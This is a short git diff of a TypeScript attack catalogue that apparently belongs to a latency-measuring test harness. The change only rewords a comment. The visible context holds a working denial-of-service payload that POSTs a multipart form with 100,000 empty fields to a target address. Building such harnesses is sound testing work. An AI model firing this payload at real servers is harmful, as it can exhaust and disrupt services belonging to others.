@@ -33,7 +33,8 @@ export const paperAttacks: Attack[] = [
       const form = /name="form" value="([^"]*)"/.exec(page)![1]!
       const part = (name: string, value: string) =>
         `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
-      // Stored as bytes: encoding the text for each request would disturb this process's latency measurements.
+      // Body of the form as bytes. Encoding it again for each request would disturb the latency measurements of this
+      // process.
       const body = new Uint8Array(Buffer.from(`${part('form', form)}${part('a', '').repeat(100_000)}--x--\r\n`))
       const sent = { ...headers, 'Content-Type': 'multipart/form-data; boundary=x' }
       return { blow: () => readStatus(fetch(address, { method: 'POST', headers: sent, body, redirect: 'manual' })) }
